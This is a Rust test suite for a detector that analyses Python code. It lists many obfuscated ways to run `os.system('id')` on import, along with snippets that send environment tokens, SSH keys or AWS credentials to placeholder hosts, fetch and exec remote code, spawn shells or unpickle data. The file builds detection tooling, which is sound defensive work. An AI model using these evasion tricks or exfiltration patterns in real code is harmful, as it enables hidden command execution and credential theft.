//! Every snippet hides the same act in another way; each must be seen.

use super::*;

/// Snippets that call `os.system('id')` when imported.
const SYSTEM: &[&str] = &[
    "import os\nos.system('id')",
    "import os as o\no.system('id')",
    "from os import system\nsystem('id')",
    "from os import system as print\nprint('id')",
    "from os import *\nsystem('id')",
    "import os.path\nos.system('id')",
    "import os\nf = os.system\ng = f\ng('id')",
    "import os\na, b = os.system, 1\na('id')",
    "import os\n(a, [b, c]) = 1, [2, os.system]\nc('id')",
    "import os\n(f := os.system)('id')",
    "import os\nclass A:\n    run = os.system\nA.run('id')",
    "import os\nclass A:\n    run = staticmethod(os.system)\n    x = os.system('id')",
    "import os\nclass A:\n    def __init__(self):\n        self.f = os.system\n    def go(self):\n        self.f('id')\nA().go()",
    "import os\n{'a': os.system}['a']('id')",
    "import os\nd = {'a': os.system}\nd['a']('id')",
    "import os\nd = {}\nd['a'] = os.system\nd['a']('id')",
    "import os\nd = dict(a=os.system)\nd.get('a')('id')",
    "import os\n[os.system][0]('id')",
    "import os\nl = []\nl.append(os.system)\nl[0]('id')",
    "import os\nl = [print]\nl.append(os.system)\nfor f in l:\n    f('id')",
    "import os\ndef f(x, run=os.system):\n    run(x)\nf('id')",
    "import os\ndef f(x=os.system('id')):\n    pass",
    "import os\nglobals()['os'].system('id')",
    "import os\nvars()['os'].system('id')",
    "import os\nlocals()['os'].system('id')",
    "import sys\nsys.modules['os'].system('id')",
    "import sys\nsys.modules.get('os').system('id')",
    "import os\ngetattr(os, 'system')('id')",
    "import os\ngetattr(os, 'sys' + 'tem')('id')",
    "import os\nn = 'metsys'[::-1]\ngetattr(os, n)('id')",
    "import os\ngetattr(os, ''.join(['s', 'y', 's', 't', 'e', 'm']))('id')",
    "import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('id')",
    "import os\ngetattr(os, '{}{}'.format('sys', 'tem'))('id')",
    "import os\ns = 'sys'\ngetattr(os, f'{s}tem')('id')",
    "import os\ngetattr(os, 'SYSTEM'.lower())('id')",
    "import os\ngetattr(os, 'sXstem'.replace('X', 'y'))('id')",
    "import os\ngetattr(os, bytes([115, 121, 115, 116, 101, 109]).decode())('id')",
    "import os\ngetattr(os, bytes.fromhex('73797374656d').decode())('id')",
    "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('id')",
    "import os\ngetattr(os, ''.join(chr(c) for c in [115, 121, 115, 116, 101, 109]))('id')",
    "import os\ngetattr(os, ''.join([chr(c ^ 1) for c in (114, 120, 114, 117, 100, 108)]))('id')",
    "import os\ngetattr(os, chr(115) + chr(121) + chr(115) + chr(116) + chr(101) + chr(109))('id')",
    "import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('id')",
    "import os, base64\ngetattr(os, base64.b64decode(b'c3lzdGVt').decode('utf-8'))('id')",
    "import os, codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))('id')",
    "import os, codecs\ngetattr(os, codecs.encode('flfgrz', 'rot_13'))('id')",
    "import os, binascii\ngetattr(os, binascii.unhexlify('73797374656d').decode())('id')",
    "import os\ngetattr(os, 'flfgrz'.translate(str.maketrans('flgrz', 'sytem')))('id')",
    "import os\ns = ''\nfor c in 'metsys':\n    s = c + s\ngetattr(os, s)('id')",
    "import os\ns = ''\nfor i in [115, 121, 115, 116, 101, 109]:\n    s += chr(i)\ngetattr(os, s)('id')",
    "import os\nx = [1, 2]\ngetattr(os, str.join('', ['sys', 'tem']))('id')",
    "import os\ngetattr(os, 'sys|tem'.replace('|', ''))('id')",
    "import os\ngetattr(os, ''.join(reversed('metsys')))('id')",
    "import os\ngetattr(os, 'xsystemx'.strip('x'))('id')",
    "import os\ngetattr(os, 'a,system'.split(',')[1])('id')",
    "import os\ngetattr(os, 'xsystem'[1:])('id')",
    "import os\ngetattr(os, {'k': 'system'}['k'])('id')",
    "def d(s):\n    return s[::-1]\nimport os\ngetattr(os, d('metsys'))('id')",
    "d = lambda s: s[::-1]\nimport os\ngetattr(os, d('metsys'))('id')",
    "__import__('os').system('id')",
    "__import__('o' + 's').system('id')",
    "import importlib\nimportlib.import_module('os').system('id')",
    "from importlib import import_module as i\ni('so'[::-1]).system('id')",
    "import importlib as x\ngetattr(x, 'import_module')('os').system('id')",
    "import importlib\nimportlib.__import__('os').system('id')",
    "__builtins__['__import__']('os').system('id')",
    "__builtins__.__import__('os').system('id')",
    "__builtins__.__dict__['__imp' + 'ort__']('os').system('id')",
    "import builtins\nbuiltins.__dict__['__import__']('os').system('id')",
    "import builtins\ngetattr(builtins, '__import__')('os').system('id')",
    "globals()['__builtins__']['__import__']('os').system('id')",
    "print.__self__.__import__('os').system('id')",
    "import operator, os\noperator.attrgetter('system')(os)('id')",
    "import operator, os\noperator.methodcaller('system', 'id')(os)",
    "from operator import attrgetter\nimport os\nattrgetter('path.os.system')(os)('id')",
    "import operator, os\noperator.itemgetter('system')(os.__dict__)('id')",
    "import functools, os\nfunctools.partial(os.system, 'id')()",
    "from functools import partial\nimport os\nf = partial(os.system)\nf('id')",
    "import os\nlist(map(os.system, ['id']))",
    "import os\n[f('id') for f in [os.system]]",
    "import os\n[os.system(c) for c in ['id']]",
    "import os\n{os.system(c) for c in ['id']}",
    "import os\nany(os.system(c) for c in ['id'])",
    "import os\nx = {1: os.system(c) for c in ['id']}",
    "import os\nos.__dict__['system']('id')",
    "import os\nvars(os)['system']('id')",
    "import os\nos.__dict__.get('system')('id')",
    "import os\nos.__getattribute__('system')('id')",
    "import os\nobject.__getattribute__(os, 'system')('id')",
    "import os\nos.system.__call__('id')",
    "import posix\nposix.system('id')",
    "import nt\nnt.system('id')",
    "import shutil\nshutil.os.system('id')",
    "import torch\ntorch.os.system('id')",
    "import torch.serialization as t\nt.os.system('id')",
    "from random import _os as r\nr.system('id')",
    "import subprocess\nsubprocess.os.system('id')",
    "import os\ndef f():\n    os.system('id')\nf()",
    "def f():\n    import os\n    os.system('id')\nf()",
    "def f():\n    global o\n    import os as o\nf()\no.system('id')",
    "import os\ndef f():\n    def g():\n        os.system('id')\n    return g\nf()()",
    "import os\ndef f():\n    return os.system\nf()('id')",
    "import os\ndef f(a):\n    a('id')\nf(os.system)",
    "import os\ndef f(*a):\n    a[0]('id')\nf(os.system)",
    "import os\ndef f(**k):\n    k['g']('id')\nf(g=os.system)",
    "import os\nclass A:\n    def __init__(self):\n        os.system('id')\nA()",
    "import os\nclass A:\n    def __new__(cls):\n        os.system('id')\nA()",
    "import os\nclass A:\n    def __del__(self):\n        os.system('id')\nA()",
    "import os\nclass A:\n    def __call__(self):\n        os.system('id')\nA()()",
    "import os\nclass A:\n    def __enter__(self):\n        os.system('id')\n    def __exit__(self, *a): pass\nwith A():\n    pass",
    "import os\nclass A:\n    def __add__(self, o):\n        os.system('id')\nA() + 1",
    "import os\nclass A:\n    def __getattr__(self, n):\n        os.system('id')\nA().x",
    "import os\nclass A:\n    def __class_getitem__(cls, k):\n        os.system('id')\nA[1]",
    "import os\nclass A:\n    def __init_subclass__(cls):\n        os.system('id')\nclass B(A):\n    pass",
    "import os\nclass M(type):\n    def __new__(m, n, b, d):\n        os.system('id')\nclass B(metaclass=M):\n    pass",
    "import os\nclass A:\n    @staticmethod\n    def f():\n        os.system('id')\nA.f()",
    "import os\nclass A:\n    @classmethod\n    def f(cls):\n        os.system('id')\nA.f()",
    "import os\ndef d(f):\n    os.system('id')\n    return f\n@d\ndef g(): pass",
    "import os\ndef d(c):\n    def w(f):\n        os.system(c)\n        return f\n    return w\n@d('id')\ndef g(): pass",
    "import os\n@lambda f: os.system('id')\ndef g(): pass",
    "import os\n@(lambda f: os.system('id'))\nclass A: pass",
    "import os\ndef f(x: os.system('id')): pass",
    "import os\ndef f() -> os.system('id'): pass",
    "import os\nx: os.system('id') = 1",
    "import os\nif True:\n    os.system('id')",
    "import os\ntry:\n    1 / 0\nexcept Exception:\n    os.system('id')",
    "import os\ntry:\n    pass\nfinally:\n    os.system('id')",
    "import os\nwhile True:\n    os.system('id')\n    break",
    "import os\nx = 1 if os.system('id') else 2",
    "import os\nassert os.system('id')",
    "import os\nf'{os.system(\"id\")}'",
    "import os\nf'{1:{os.system(\"id\")}}'",
    "import os\nx = not os.system('id')",
    "import os\nx = 1 < os.system('id')",
    "import os\nx = [0][os.system('id')]",
    "import os\nx = lambda y=os.system('id'): y",
    "import os\ndel [0][os.system('id')]",
    "import os\nraise ValueError(os.system('id'))",
    "import os\nmatch os.system:\n    case f:\n        f('id')",
    "import os\nf = print\nif f:\n    f = os.system\nelse:\n    f = len\nf('id')",
    "import os\nf = os.system if 1 else print\nf('id')",
    "import os\nf = None or os.system\nf('id')",
    "import os\ndef __getattr__(name):\n    os.system('id')",
    "import os\nimport threading\nthreading.Thread(target=os.system, args=('id',)).start()",
    "import os\nimport atexit\natexit.register(os.system, 'id')",
    "import os, atexit\n@atexit.register\ndef f():\n    os.system('id')",
    "import os, atexit\natexit.register(lambda: os.system('id'))",
    "import os\nfrom multiprocessing import Process as P\nP(target=os.system, args=('id',)).start()",
    "import os\nfrom concurrent.futures import ThreadPoolExecutor\nThreadPoolExecutor().submit(os.system, 'id')",
    "import os, functools\nfunctools.reduce(lambda a, b: os.system('id'), [1, 2])",
    "import os\nsorted(['id'], key=os.system)",
    "import os\nimport asyncio\nasync def f():\n    os.system('id')\nasyncio.run(f())",
    "os.system('id')",
    "import os\neval('os.system')('id')",
    "import os\nf = [g for g in (os.system,)][0]\nf('id')",
    "import os;os.system('id')",
    "import os\\\n\nos.\\\nsystem('id')",
    "import os\nos . system ( 'id' )",
    "import os\n(os).system('id')",
    "\u{fb01} = 1\nimport os\nos.system('id')",
    "import os\nos.system('i' 'd')",
    "import os\nos.system(*['id'])",
    "import os\nos.system(**{'command': 'id'})",
    "import os\nos.system(command='id')",
    "import os\ntype('X', (), {'__init__': lambda s: None})\nos.system('id')",
    "import os\nx = os.system\ndel x\nos.system('id')",
    "import os\nfor i in range(1):\n    os.system('id')",
    "import os\ncmds = ['id']\nwhile cmds:\n    os.system(cmds.pop())",
    "from os import path\npath.os.system('id')",
    "import os\ng = globals()\ng['x'] = os.system\nx('id')",
    "import pkgutil\npkgutil.resolve_name('os').system('id')",
    "import os\nsetattr(os, 'x', 1)\nos.system('id')",
    "import six\nsix.moves.builtins.__import__('os').system('id')",
    "import zlib, os\ngetattr(os, zlib.decompress(bytes.fromhex('789c2bae2c2e49cd0500097402a6')).decode())('id')",
];

#[test]
fn every_way_to_run_a_command_on_import_is_seen() {
    let missed: Vec<String> = SYSTEM
        .iter()
        .filter_map(|code| {
            let seen = seen(code);
            let call =
                seen.facts.calls.iter().any(|call| call.callee == "os.system" && call.scope == Scope::Import);
            let value = |call: &PythonCall| {
                call.arguments.iter().any(|argument| argument.value.as_deref() == Some("'id'"))
            };
            let argued = seen.facts.calls.iter().any(|call| call.callee == "os.system" && value(call));
            (!(call && argued))
                .then(|| format!("{code}\n    -> {:?} {:?}", seen.callees(), seen.facts.dynamic))
        })
        .collect();
    assert!(missed.is_empty(), "{} of {} missed:\n{}", missed.len(), SYSTEM.len(), missed.join("\n"));
}

/// Snippets and a callee that must be among their calls.
const CALLS: &[(&str, &str)] = &[
    ("exec('1')", "builtins.exec"),
    ("import builtins as b\nb.exec('1')", "builtins.exec"),
    ("x = exec\nx('1')", "builtins.exec"),
    ("__builtins__['ev' + 'al']('1')", "builtins.eval"),
    ("import pickle\npickle.loads(b'')", "pickle.loads"),
    ("import _pickle\n_pickle.loads(b'')", "pickle.loads"),
    ("import cPickle as p\np.loads(b'')", "pickle.loads"),
    (
        "try:\n    import cPickle as pickle\nexcept ImportError:\n    import pickle\npickle.loads(b'')",
        "pickle.loads",
    ),
    ("import pickle\npickle.Unpickler(f).load()", "pickle.Unpickler.load"),
    ("import marshal, types\ntypes.FunctionType(marshal.loads(b'x'), globals())()", "types.FunctionType"),
    ("import marshal\nexec(marshal.loads(b'x'))", "marshal.loads"),
    ("import torch\ntorch.load('x')", "torch.load"),
    ("from torch import load\nload('x')", "torch.load"),
    ("import torch.serialization\ntorch.serialization.pickle.loads(x)", "pickle.loads"),
    ("import ctypes\nctypes.CDLL('x.so')", "ctypes.CDLL"),
    ("import ctypes\nctypes.cdll.LoadLibrary('x.so').run()", "ctypes.cdll.LoadLibrary"),
    ("import subprocess as s\ns.Popen(['id'], shell=True).communicate()", "subprocess.Popen"),
    ("from subprocess import check_output as c\nc('id')", "subprocess.check_output"),
    ("import os\nos.popen('id').read()", "os.popen"),
    ("import os\nos.execvp('sh', ['sh'])", "os.execvp"),
    ("import pty\npty.spawn('/bin/sh')", "pty.spawn"),
    ("import socket\ns = socket.socket()\ns.connect(('h', 1))", "socket.socket.connect"),
    ("import socket,os\ns=socket.socket()\nos.dup2(s.fileno(),0)", "os.dup2"),
    ("import urllib.request\nurllib.request.urlopen('http://h')", "urllib.request.urlopen"),
    ("from urllib.request import urlopen as u\nu('http://h').read()", "urllib.request.urlopen"),
    ("import requests\nrequests.Session().post('http://h')", "requests.Session.post"),
    ("import requests\ns = requests.Session()\ns.get('u')", "requests.Session.get"),
    ("import httpx\nwith httpx.Client() as c:\n    c.post('u')", "httpx.Client.post"),
    (
        "import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        await s.get('u')",
        "aiohttp.ClientSession.get",
    ),
    ("import webbrowser\nwebbrowser.open('u')", "webbrowser.open"),
    ("import shutil\nshutil.rmtree('/')", "shutil.rmtree"),
    ("open('/etc/cron.d/x', 'w').write('y')", "builtins.open.write"),
    ("with open('x', 'w') as f:\n    f.write('y')", "builtins.open.write"),
    ("import io\nio.open('x', 'w')", "builtins.open"),
    ("import pathlib\npathlib.Path('x').write_text('y')", "pathlib.Path.write_text"),
    ("from pathlib import Path\n(Path.home() / '.bashrc').write_text('y')", "pathlib.Path.write_text"),
    ("import sys\nsys.path.insert(0, '/tmp')", "sys.path.insert"),
    ("import sys\nsys.meta_path.append(x)", "sys.meta_path.append"),
    ("import codecs\ncodecs.register(f)", "codecs.register"),
    ("import signal\nsignal.signal(1, f)", "signal.signal"),
    ("import site\nsite.addsitedir('x')", "site.addsitedir"),
    ("import yaml\nyaml.load(x, Loader=yaml.Loader)", "yaml.load"),
    ("import joblib\njoblib.load('x')", "joblib.load"),
    ("import pandas as pd\npd.read_pickle('x')", "pandas.read_pickle"),
    ("import numpy as np\nnp.load('x', allow_pickle=True)", "numpy.load"),
    ("from torch.hub import load\nload('a/b', 'c')", "torch.hub.load"),
    (
        "class A:\n    def __reduce__(self):\n        import os\n        return os.system, ('id',)",
        "os.system",
    ),
    (
        "import os\nclass A:\n    def __reduce_ex__(self, p):\n        return (os.system, ('id',))",
        "os.system",
    ),
    ("class A(__import__('os').popen('id').__class__): pass", "os.popen"),
    ("import os\nfoo(os.system)", "os.system"),
    ("import os\nfoo(callback=os.system)", "os.system"),
    ("import torch\ntorch.ops.load_library('x.so')", "torch.ops.load_library"),
    ("import runpy\nrunpy.run_path('x')", "runpy.run_path"),
    (
        "import importlib.util as u\nu.spec_from_file_location('a', 'b').loader.exec_module(m)",
        "importlib.util.spec_from_file_location",
    ),
    ("breakpoint()", "builtins.breakpoint"),
    ("ops.aten.add(x)", "ops.aten.add"),
    ("def forward(self, x):\n    return torch.add(x, x)", "torch.add"),
    ("import multiprocessing as m\nm.Pool(2).map(eval, ['1'])", "builtins.eval"),
    ("from .evil import run\nrun()", ".evil.run"),
    ("from . import evil\nevil.run()", ".evil.run"),
];

#[test]
fn calls_have_canonical_names() {
    let missed: Vec<String> = CALLS
        .iter()
        .filter_map(|(code, callee)| {
            let seen = seen(code);
            seen.call(callee).is_none().then(|| format!("{callee} in {code}\n    -> {:?}", seen.callees()))
        })
        .collect();
    assert!(missed.is_empty(), "{} missed:\n{}", missed.len(), missed.join("\n"));
}

/// Snippets that hide what they do, and a word of the reason.
const DYNAMIC: &[(&str, &str)] = &[
    ("exec(x)", "exec"),
    ("exec(input())", "exec"),
    ("eval(f(x))", "eval"),
    ("exec(compile(x, 'a', 'exec'))", "compile"),
    ("exec(open('x').read())", "exec of the content of a file"),
    ("import os\ngetattr(os, x)('id')", "attribute of os"),
    ("import os\nos.__dict__[x]('id')", "attribute of os"),
    ("vars(__import__('os'))[x]('id')", "attribute of os"),
    ("__import__(x)", "import"),
    ("import importlib\nimportlib.import_module(x).f()", "import"),
    ("().__class__.__base__.__subclasses__()", "subclasses"),
    ("''.__class__.__mro__[1].__subclasses__()[1]()", "subclasses"),
    ("object.__subclasses__()", "subclasses"),
    ("type(()).__base__.__subclasses__()", "subclasses"),
    ("getattr(().__class__.__base__, '__subcl' + 'asses__')()", "subclasses"),
    ("[c for c in {}.__class__.__bases__[0].__subclasses__() if c.__name__ == 'x'][0]()", "subclasses"),
    ("def f(): pass\nf.__globals__['x']", "globals"),
    ("x.__init__.__globals__['sys'].modules['os']", "globals"),
    ("import sys\nsys.modules[x].f()", "sys.modules"),
    ("# -*- coding: rot13 -*-\nvzcbeg bf", "encoding"),
    ("#!/usr/bin/python\n# vim: set fileencoding=utf-7 :\nx = 1", "encoding"),
    ("# coding=unicode_escape\nx = 1", "encoding"),
    ("import marshal, types\ntypes.FunctionType(marshal.loads(b'x'), globals())()", "call of what"),
    ("eval(compile('1', '', 'eval'))()", "call of what"),
    ("def f(): pass\nf.__code__ = x", "code"),
    ("import builtins\ngetattr(builtins, x)(y)", "attribute of builtins"),
    ("__builtins__[x](y)", "attribute of builtins"),
];

#[test]
fn what_hides_its_target_is_said() {
    let missed: Vec<String> = DYNAMIC
        .iter()
        .filter_map(|(code, what)| {
            let seen = seen(code);
            let said = seen.facts.dynamic.iter().any(|dynamic| dynamic.what.contains(what));
            (!said).then(|| format!("{what} in {code}\n    -> {:?}", seen.facts.dynamic))
        })
        .collect();
    assert!(missed.is_empty(), "{} missed:\n{}", missed.len(), missed.join("\n"));
}

/// Snippets, source and sink.
const FLOWS: &[(&str, &str, &str)] = &[
    ("import os, requests\nrequests.post('u', data=os.environ['HF_TOKEN'])", "environment", "network"),
    (
        "import os, requests\nt = os.environ.get('AWS_SECRET_ACCESS_KEY')\nrequests.get('http://h/?' + t)",
        "environment",
        "network",
    ),
    ("import os, requests\nrequests.post('u', json=dict(os.environ))", "environment", "network"),
    (
        "import os, json, urllib.request as r\nr.urlopen('u', json.dumps(dict(os.environ)).encode())",
        "environment",
        "network",
    ),
    (
        "from os import environ as e\nimport requests\nrequests.post('u', data={k: v for k, v in e.items()})",
        "environment",
        "network",
    ),
    ("import os, socket\ns = socket.socket()\ns.send(os.getenv('TOKEN').encode())", "environment", "network"),
    ("import os\nos.system('curl http://h/' + os.environ['API_KEY'])", "environment", "execution"),
    (
        "import requests\nrequests.post('u', files={'f': open('/root/.ssh/id_rsa')})",
        "credential file",
        "network",
    ),
    (
        "import os, requests\np = os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')\nd = open(p).read()\nrequests.post('u', data=d)",
        "credential file",
        "network",
    ),
    (
        "from pathlib import Path\nimport requests\nrequests.post('u', data=(Path.home() / '.aws' / 'credentials').read_text())",
        "credential file",
        "network",
    ),
    ("import requests\nexec(requests.get('u').text)", "network", "execution"),
    ("import urllib.request as r\nexec(r.urlopen('u').read())", "network", "execution"),
    (
        "import urllib.request as r\nwith r.urlopen('u') as f:\n    c = f.read().decode()\n    eval(c)",
        "network",
        "execution",
    ),
    ("import requests, pickle\npickle.loads(requests.get('u').content)", "network", "deserialisation"),
    (
        "import requests, torch, io\ntorch.load(io.BytesIO(requests.get('u').content))",
        "network",
        "deserialisation",
    ),
    (
        "import requests, os\nopen('/tmp/x.sh', 'wb').write(requests.get('u').content)\nos.system('sh /tmp/x.sh')",
        "network",
        "execution",
    ),
    ("import requests\nopen('x', 'wb').write(requests.get('u').content)", "network", "file"),
    ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "decoded literal", "execution"),
    (
        "import base64, pickle\npickle.loads(base64.b64decode('gASVAAAAAAAAAC4='))",
        "decoded literal",
        "deserialisation",
    ),
    ("import zlib, base64\nexec(zlib.decompress(base64.b64decode(x)))", "decoded literal", "execution"),
    ("import socket\ns = socket.socket()\nexec(s.recv(1024))", "network", "execution"),
    (
        "from huggingface_hub import hf_hub_download\nimport torch\ntorch.load(hf_hub_download('a', 'b'))",
        "hub",
        "deserialisation",
    ),
    ("import getpass, requests\nrequests.post('u', data=getpass.getpass())", "stored credential", "network"),
    ("import requests\ndef get(u):\n    return requests.get(u).text\nexec(get('u'))", "network", "execution"),
    (
        "import os, requests\nclass A:\n    def a(self):\n        self.t = os.environ['TOKEN']\n    def b(self):\n        requests.post('u', data=self.t)",
        "environment",
        "network",
    ),
];

#[test]
fn flows_are_followed() {
    let missed: Vec<String> = FLOWS
        .iter()
        .filter_map(|(code, source, sink)| {
            let seen = seen(code);
            let found = seen.facts.flows.iter().any(|flow| flow.source == *source && flow.sink == *sink);
            (!found).then(|| {
                format!("{source} to {sink} in {code}\n    -> {:?} {:?}", seen.facts.flows, seen.callees())
            })
        })
        .collect();
    assert!(missed.is_empty(), "{} missed:\n{}", missed.len(), missed.join("\n"));
}

#[test]
fn code_in_constants_becomes_a_child() {
    for code in [
        "exec('import os')",
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))",
        "x = 'import '\nx += 'os'\nexec(x)",
        "exec(compile('import os', 'a', 'exec'))",
        "eval('import os')",
        "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))",
        "exec('so tropmi'[::-1])",
        "exec(''.join(chr(c - 1) for c in [106, 110, 113, 112, 115, 117, 33, 112, 116]))",
        "exec(bytes.fromhex('696d706f7274206f73'))",
        "def f(c):\n    exec(c)\nf('import os')",
        "list(map(exec, ['import os']))",
        "exec(b'\\x69mport os')",
    ] {
        let seen = seen(code);
        let child = seen
            .children
            .iter()
            .any(|(_, bytes, known)| bytes == b"import os" && *known == Some(Format::Python));
        assert!(child, "{code}: {:?} {:?}", seen.children, seen.facts.dynamic);
    }
}

#[test]
fn pickles_in_constants_become_children() {
    let seen = seen("import pickle, base64\npickle.loads(base64.b64decode('gASVAAAAAAAAAC4='))");
    assert!(seen.children.iter().any(|(_, _, known)| *known == Some(Format::Pickle)), "{:?}", seen.children);
}

#[test]
fn writes_to_other_modules_are_seen() {
    for (code, target) in [
        ("import torch\ntorch.load = print", "torch.load"),
        ("import torch\nsetattr(torch, 'lo' + 'ad', lambda *a: 1)", "torch.load"),
        ("import sys\nsys.modules['os'] = x", "sys.modules['os']"),
        ("import os\nos.environ['LD_PRELOAD'] = 'x'", "os.environ['LD_PRELOAD']"),
        ("import sys\nsys.path = []", "sys.path"),
        ("import builtins\nbuiltins.open = f", "builtins.open"),
        ("import builtins\nbuiltins.__dict__['open'] = f", "builtins.open"),
        (
            "from transformers import PreTrainedModel as P\nP.forward = f",
            "transformers.PreTrainedModel.forward",
        ),
    ] {
        let seen = seen(code);
        assert!(
            seen.facts.writes.iter().any(|write| write.target == target),
            "{code}: {:?}",
            seen.facts.writes
        );
    }
}

#[test]
fn scopes_are_told_apart() {
    let code = "import os\ndef f():\n    os.system('f')\nif __name__ == '__main__':\n    os.system('m')\nelse:\n    os.system('i')\n";
    let seen = seen(code);
    let scope = |argument: &str| {
        let call = seen.facts.calls.iter().find(|call| call.arguments[0].value.as_deref() == Some(argument));
        call.map(|call| call.scope.clone())
    };
    assert_eq!(scope("'f'"), Some(Scope::Function("f".to_owned())));
    assert_eq!(scope("'m'"), Some(Scope::Main));
    assert_eq!(scope("'i'"), Some(Scope::Import));
}

#[test]
fn places_point_at_the_call() {
    let code = "\u{feff}import os\r\n\r\nos.system('x')\r\n";
    let seen = seen(code);
    let call = seen.call("os.system").unwrap();
    assert_eq!(call.line, 3);
    assert_eq!(&code.as_bytes()[call.region.start as usize..call.region.end as usize], b"os.system('x')");
}
